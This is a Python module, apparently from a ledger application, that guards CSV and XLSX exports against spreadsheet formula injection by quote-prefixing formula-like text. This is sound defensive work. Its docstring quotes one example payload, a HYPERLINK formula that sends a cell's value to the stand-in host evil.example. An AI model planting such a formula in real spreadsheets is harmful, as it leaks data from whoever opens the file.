"""Text written into spreadsheet files (CSV and XLSX) is written as text, never as a formula.

A spreadsheet program opening a CSV treats a cell that begins with ``=``, ``+``, ``-`` or ``@``
(and, in some, tab or carriage return before one of them) as a formula, so a staff member's name
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run on the auditor's machine (CSV injection,
OWASP). Every file the ledger writes for a spreadsheet goes through :func:`csv_text` (CSV) or
:func:`set_xlsx_cell` (XLSX); numbers and dates stay numbers and dates.

Kept free of openpyxl's import (the cell is duck-typed) so both the CLI and the pages can use it.
"""

from __future__ import annotations

import re
from typing import Any

# OWASP's list, plus line feed and the full-width forms some East Asian spreadsheet locales read as
# the same operators. Leading spaces do not make a cell safe: some programs skip them.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_LEADING_BLANKS = " \u00a0\u3000"
# XML 1.0 cannot carry these (openpyxl refuses them); a legacy record holding one must still export.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def could_be_formula(text: str) -> bool:
    """Whether a spreadsheet program might read ``text`` as a formula."""
    stripped = text.lstrip(_LEADING_BLANKS)
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def csv_text(text: str) -> str:
    """``text`` as a CSV cell: a leading ``'`` when it could be read as a formula (OWASP)."""
    return "'" + text if could_be_formula(text) else text


def csv_cell(value: object) -> object:
    """Any CSV value: text through :func:`csv_text`, everything else (numbers) unchanged."""
    return csv_text(value) if isinstance(value, str) else value


def set_xlsx_cell(cell: Any, value: object) -> None:
    """Put ``value`` in an openpyxl cell; text is always a string cell, never a formula or an error
    code (openpyxl would make ``=…`` a formula and ``#N/A`` an error), and formula-like text also
    gets Excel's quote prefix so that editing the cell keeps it text."""
    if not isinstance(value, str):
        cell.value = value
        return
    cell.value = _XML_ILLEGAL.sub("\ufffd", value)
    cell.data_type = "s"
    if could_be_formula(value):
        cell.quotePrefix = True
